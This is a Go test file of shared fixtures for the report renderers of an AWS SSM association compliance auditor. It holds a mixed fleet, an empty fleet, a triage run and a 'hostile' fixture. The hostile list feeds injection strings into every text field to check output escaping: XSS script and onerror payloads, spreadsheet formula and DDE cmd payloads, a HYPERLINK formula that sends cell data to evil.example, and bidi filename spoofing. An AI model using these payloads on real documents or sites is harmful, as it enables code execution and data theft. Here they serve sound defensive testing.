package report_test

// The shared fixtures of the report tests: every format's test loops over
// fixtures(t), renders each one, and checks its own files. Golden files are
// refreshed with `go test ./report -update`.

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/auditor-dev/auditor/audit"
	"github.com/auditor-dev/auditor/report"
)

// update rewrites the golden files under testdata/ instead of comparing.
var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// runStart is when every fixture's run started; execution dates are relative
// to it so that staleness is fixed.
var runStart = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

// Execution dates: fresh is within the default 7 days, old is past them.
var (
	fresh = runStart.Add(-2 * time.Hour)
	old   = runStart.Add(-30 * 24 * time.Hour)
)

// fixture is one fleet to render.
type fixture struct {
	name    string
	results []audit.Result
	run     audit.RunInfo
}

// fixtures returns the shared cases: "mixed" (every outcome, two accounts and
// regions, every association status, stale and undated executions, an
// association without a name, a failure without an error code, an error
// instance with the partial rows of its first page, labels), "empty" (no
// instances), "hostile" (hostileValues() in every text field, labels and
// label keys included) and "triage" (a --discover --triage run: instances
// summarised from their association overview beside instances fetched in
// full).
func fixtures(t *testing.T) []fixture {
	t.Helper()
	return []fixture{mixedFixture(), emptyFixture(), hostileFixture(), triageFixture()}
}

// fixtureNamed returns the fixture called name.
func fixtureNamed(t *testing.T, name string) fixture {
	t.Helper()
	for _, fx := range fixtures(t) {
		if fx.name == name {
			return fx
		}
	}
	t.Fatalf("no fixture %q", name)
	return fixture{}
}

// options returns Options that render fx into a new temporary directory,
// with the record written and opened by openRecord, and the CLI's default
// stale rule.
func (fx fixture) options(t *testing.T) report.Options {
	t.Helper()
	return report.Options{
		Dir:        t.TempDir(),
		Records:    openRecord(t, fx.results),
		Run:        fx.run,
		StaleAfter: audit.DefaultStaleAfter,
	}
}

// openRecord writes results to a results.jsonl in a new temporary directory
// with audit.CreateRecord, in the order given, and opens it. The Records is
// closed when the test ends.
func openRecord(t *testing.T, results []audit.Result) *audit.Records {
	t.Helper()
	if len(results) == 0 {
		rs, _ := audit.OpenRecords() // no file: a record writer makes none until its first result
		return rs
	}
	path := filepath.Join(t.TempDir(), audit.ResultsFile)
	w, err := audit.CreateRecord(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rs, err := audit.OpenRecords(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rs.Close() })
	return rs
}

// checkGolden compares got with testdata/name, or rewrites that file with
// -update; a difference names its first line.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o666); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if bytes.Equal(got, want) {
		return
	}
	gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
	for i := range max(len(gl), len(wl)) {
		var g, w string
		if i < len(gl) {
			g = gl[i]
		}
		if i < len(wl) {
			w = wl[i]
		}
		if g != w {
			t.Fatalf("%s differs at line %d (run go test ./report -update and review the diff):\ngot:  %q\nwant: %q", path, i+1, g, w)
		}
	}
}

func at(t time.Time) *time.Time { return &t }

func s3(url string) *audit.OutputURL {
	return &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: url}}
}

const (
	acct1 = "111111111111"
	acct2 = "222222222222"
	east  = "us-east-1"
	west  = "eu-west-1"
)

func fixtureRun() audit.RunInfo {
	return audit.RunInfo{
		Schema:    audit.Schema,
		Version:   "1.2.3-test",
		StartedAt: runStart,
		EndedAt:   runStart.Add(95 * time.Second),
		Complete:  false,
		Options:   map[string]any{"concurrency": 8, "regions": []string{east, west}},
		Targets:   10,
		Invalid:   1,
		Stats:     audit.Stats{Calls: 14, Pages: 12, Throttled: 1, Retries: 2, Rate: 7.5, Seconds: 1.9},
	}
}

// mixedFixture is a small fleet with every outcome. Associations are listed
// out of AssociationId order on purpose.
func mixedFixture() fixture {
	audited := runStart.Add(time.Minute)
	return fixture{name: "mixed", run: fixtureRun(), results: []audit.Result{
		{
			AccountID: acct2, Region: west, InstanceID: "i-00000000000000010", Outcome: audit.OutcomeNoncompliant,
			Labels: map[string]string{"owner": "data", "env": "prod"}, Source: "fleet.csv:10", Pages: 1, AuditedAt: audited,
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					InstanceID: "i-00000000000000010", ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: "Failed",
					ExecutionSummary: "1 out of 1 plugin processed, 0 success, 1 failed", ErrorCode: "ScriptFailed", OutputURL: s3("https://s3.amazonaws.com/bucket/i-10/patch")},
				{AssociationID: "a-agent", AssociationName: "update-agent", Name: "AWS-UpdateSSMAgent", AssociationVersion: "1", DocumentVersion: "$DEFAULT",
					InstanceID: "i-00000000000000010", ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: "TimedOut",
					ExecutionSummary: "timed out", ErrorCode: "Timeout"},
			},
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000001", Outcome: audit.OutcomeCompliant,
			Labels: map[string]string{"owner": "web", "env": "prod"}, Source: "fleet.csv:2", Pages: 1, AuditedAt: audited,
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(fresh), Status: audit.StatusSuccess, DetailedStatus: "Success", ExecutionSummary: "1 out of 1 plugin processed, 1 success"},
				{AssociationID: "a-agent", AssociationName: "update-agent", Name: "AWS-UpdateSSMAgent", AssociationVersion: "1", DocumentVersion: "$DEFAULT",
					ExecutionDate: at(fresh), Status: audit.StatusSuccess, DetailedStatus: "Success"},
			},
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000002", Outcome: audit.OutcomeNoncompliant,
			Labels: map[string]string{"owner": "web", "env": "staging", "cost-center": "cc-7"}, Source: "fleet.csv:3", Pages: 2, AuditedAt: audited,
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: "Failed", ErrorCode: "ScriptFailed",
					ExecutionSummary: "exit status 1", OutputURL: s3("https://s3.amazonaws.com/bucket/i-2/patch")},
				{AssociationID: "a-inventory", AssociationName: "inventory", Name: "AWS-GatherSoftwareInventory", AssociationVersion: "2", DocumentVersion: "1",
					ExecutionDate: at(old), Status: audit.StatusFailed, DetailedStatus: "Failed"},
				{AssociationID: "a-agent", AssociationName: "update-agent", Name: "AWS-UpdateSSMAgent", AssociationVersion: "1", DocumentVersion: "$DEFAULT",
					ExecutionDate: at(fresh), Status: audit.StatusSuccess, DetailedStatus: "Success"},
			},
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000003", Outcome: audit.OutcomePending,
			Labels: map[string]string{"owner": "web"}, Source: "fleet.csv:4", Pages: 1, AuditedAt: audited,
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					Status: audit.StatusPending, DetailedStatus: "Pending"},
				{AssociationID: "a-agent", AssociationName: "update-agent", Name: "AWS-UpdateSSMAgent", AssociationVersion: "1", DocumentVersion: "$DEFAULT",
					ExecutionDate: at(fresh), Status: audit.StatusSuccess, DetailedStatus: "Success"},
				{AssociationID: "a-custom", AssociationName: "", Name: "Custom-Hardening", AssociationVersion: "1", DocumentVersion: "4",
					ExecutionDate: at(fresh), Status: "InProgress", DetailedStatus: "InProgress"},
			},
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000004", Outcome: audit.OutcomeNoAssociations,
			Labels: map[string]string{"owner": "batch"}, Source: "fleet.csv:5", Pages: 1, AuditedAt: audited,
		},
		{
			AccountID: acct1, Region: west, InstanceID: "i-00000000000000005", Outcome: audit.OutcomeNotManaged,
			Source: "fleet.csv:6", Pages: 0, AuditedAt: audited,
			Error: &audit.Error{Code: "InvalidInstanceId", Message: "Instance i-00000000000000005 is not a managed node"},
		},
		{
			// Throttled on its second page: the rows of the first are only
			// part of its list.
			AccountID: acct1, Region: west, InstanceID: "i-00000000000000006", Outcome: audit.OutcomeError,
			Source: "fleet.csv:7", Calls: 5, Pages: 1, AuditedAt: audited,
			Error: &audit.Error{Code: "ThrottlingException", Message: "Rate exceeded"},
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(old), Status: audit.StatusFailed, DetailedStatus: "Failed", ErrorCode: "ScriptFailed"},
			},
		},
		{
			AccountID: "", Region: "", InstanceID: "i-12345", Outcome: audit.OutcomeInvalid, Source: "fleet.csv:8",
			Error: &audit.Error{Code: "Invalid", Message: "not an instance ID (want i- followed by 8 or 17 hex digits)"},
		},
		{
			AccountID: acct2, Region: west, InstanceID: "i-00000000000000008", Outcome: audit.OutcomeNoncompliant,
			Labels: map[string]string{"owner": "data"}, Source: "fleet.csv:9", Pages: 1, AuditedAt: audited,
			Associations: []audit.Association{
				// No AssociationName: grouped by its ID. Failed with no ErrorCode.
				{AssociationID: "b-unnamed", Name: "Custom-Hardening", AssociationVersion: "1", DocumentVersion: "4",
					ExecutionDate: at(old), Status: audit.StatusFailed, DetailedStatus: "Failed", ExecutionSummary: "no error code"},
			},
		},
		{
			AccountID: acct2, Region: east, InstanceID: "i-00000000000000009", Outcome: audit.OutcomeCompliant,
			Labels: map[string]string{"env": "dev"}, Source: "fleet.csv:11", Pages: 1, AuditedAt: audited,
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(old), Status: audit.StatusSuccess, DetailedStatus: "Success"},
			},
		},
	}}
}

func emptyFixture() fixture {
	run := fixtureRun()
	run.Targets, run.Invalid, run.Complete = 0, 0, true
	return fixture{name: "empty", run: run}
}

// hostileValues are strings that attack a renderer: markup and script,
// formula prefixes, quotes, line breaks, long text, bidirectional and
// emoji text. Plain numbers ("-1", "+3.5") must come out untouched.
func hostileValues() []string {
	long := []rune(strings.Repeat("=1+\"<script>alert(1)</script>\u202E🔥,\n ", 40))
	return []string{
		`<script>alert("x")</script>`,
		`"><img src=x onerror=alert(1)>`,
		`' onmouseover='alert(1)`,
		`javascript:alert(document.domain)`,
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		`+SUM(1,2)`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		`He said "hi", then 'bye'; x,y`,
		"line one\nline two\r\nline three",
		string(long[:512]),
		"مرحبا بالعالم",
		"שלום עולם",
		"\u202Etxt.exe\u202C",
		"🔥💥 emoji 👩‍💻 text",
		"-1",
		"+3.5",
	}
}

// hostileFixture puts every hostile value in every text field: for each value
// h, a noncompliant instance (account, region, labels, label key and every
// association field are h, including a Status of h), an error instance (its
// error code, message and source are h) and an invalid instance whose ID is h.
func hostileFixture() fixture {
	run := fixtureRun()
	run.Version = hostileValues()[0]
	run.Error = hostileValues()[4]
	run.Options = map[string]any{"note": hostileValues()[1]}
	var results []audit.Result
	for i, h := range hostileValues() {
		labels := map[string]string{"owner": h, h: h}
		results = append(results,
			audit.Result{
				AccountID: h, Region: h, InstanceID: fmt.Sprintf("i-%017x", i), Outcome: audit.OutcomeNoncompliant,
				Labels: labels, Source: h, Pages: 1, AuditedAt: runStart,
				Associations: []audit.Association{
					{AssociationID: h, AssociationName: h, Name: h, AssociationVersion: h, DocumentVersion: h, InstanceID: h,
						ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: h, ExecutionSummary: h, ErrorCode: h, OutputURL: s3(h)},
					{AssociationID: h + "-2", AssociationName: h, Name: h, AssociationVersion: h, DocumentVersion: h,
						ExecutionDate: at(old), Status: h, DetailedStatus: h, ExecutionSummary: h, ErrorCode: h, OutputURL: s3(h)},
				},
			},
			audit.Result{
				AccountID: h, Region: h, InstanceID: fmt.Sprintf("i-%017x", 100+i), Outcome: audit.OutcomeError,
				Labels: labels, Source: h, AuditedAt: runStart, Error: &audit.Error{Code: h, Message: h},
			},
			audit.Result{
				InstanceID: h, Outcome: audit.OutcomeInvalid, Labels: labels, Source: h,
				Error: &audit.Error{Code: "Invalid", Message: h},
			},
		)
	}
	return fixture{name: "hostile", run: run, results: results}
}

// triageFixture is a --discover --triage run in one account-region: nodes
// whose overview shows every association succeeded are compliant with
// detail "overview", their associations counted from the overview and none
// fetched; a node whose overview shows none has no_associations; the
// others were fetched (one failing, one with a stale success, one throttled
// after its first page: partial, outcome error). The label owner is on
// some of each kind.
func triageFixture() fixture {
	audited := runStart.Add(time.Minute)
	run := fixtureRun()
	run.Targets, run.Invalid = 7, 0
	run.Options = map[string]any{"discover": true, "triage": true}
	info := func(status string, counts map[string]int) *audit.InstanceInfo {
		in := &audit.InstanceInfo{PingStatus: "Online", AgentVersion: "3.3.40.0", AssociationStatus: status,
			LastSuccessfulAssociationExecutionDate: at(fresh)}
		if counts != nil {
			in.AssociationOverview = &audit.AssociationOverview{DetailedStatus: status, InstanceAssociationStatusAggregatedCount: counts}
		}
		return in
	}
	overview := func(id string, labels map[string]string, success int) audit.Result {
		return audit.Result{
			AccountID: acct1, Region: east, InstanceID: id, Outcome: audit.OutcomeCompliant, Detail: audit.DetailOverview,
			Labels: labels, Source: "discovered", AuditedAt: audited, Info: info("Success", map[string]int{"Success": success}),
		}
	}
	return fixture{name: "triage", run: run, results: []audit.Result{
		overview("i-00000000000000a01", map[string]string{"owner": "web"}, 3),
		overview("i-00000000000000a02", map[string]string{"owner": "data"}, 5),
		overview("i-00000000000000a03", nil, 2),
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000a04", Outcome: audit.OutcomeNoAssociations, Detail: audit.DetailOverview,
			Labels: map[string]string{"owner": "web"}, Source: "discovered", AuditedAt: audited, Info: info("", nil),
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000a05", Outcome: audit.OutcomeNoncompliant,
			Labels: map[string]string{"owner": "web"}, Source: "discovered", Pages: 1, AuditedAt: audited,
			Info: info("Failed", map[string]int{"Failed": 1, "Success": 1}),
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: "Failed", ErrorCode: "ScriptFailed"},
				{AssociationID: "a-agent", AssociationName: "update-agent", Name: "AWS-UpdateSSMAgent", AssociationVersion: "1", DocumentVersion: "$DEFAULT",
					ExecutionDate: at(fresh), Status: audit.StatusSuccess, DetailedStatus: "Success"},
			},
		},
		{
			// Its newest success is too old for triage: fetched in full.
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000a06", Outcome: audit.OutcomeCompliant,
			Labels: map[string]string{"owner": "data"}, Source: "discovered", Pages: 1, AuditedAt: audited,
			Info: func() *audit.InstanceInfo {
				in := info("Success", map[string]int{"Success": 1})
				in.LastSuccessfulAssociationExecutionDate = at(old)
				return in
			}(),
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(old), Status: audit.StatusSuccess, DetailedStatus: "Success"},
			},
		},
		{
			AccountID: acct1, Region: east, InstanceID: "i-00000000000000a07", Outcome: audit.OutcomeError,
			Labels: map[string]string{"owner": "web"}, Source: "discovered", Calls: 5, Pages: 1, AuditedAt: audited,
			Error: &audit.Error{Code: "ThrottlingException", Message: "Rate exceeded"},
			Info:  info("Failed", map[string]int{"Failed": 1, "Success": 2}),
			Associations: []audit.Association{
				{AssociationID: "a-patch", AssociationName: "patch-baseline", Name: "AWS-RunPatchBaseline", AssociationVersion: "3", DocumentVersion: "1",
					ExecutionDate: at(fresh), Status: audit.StatusFailed, DetailedStatus: "Failed", ErrorCode: "ScriptFailed"},
			},
		},
	}}
}
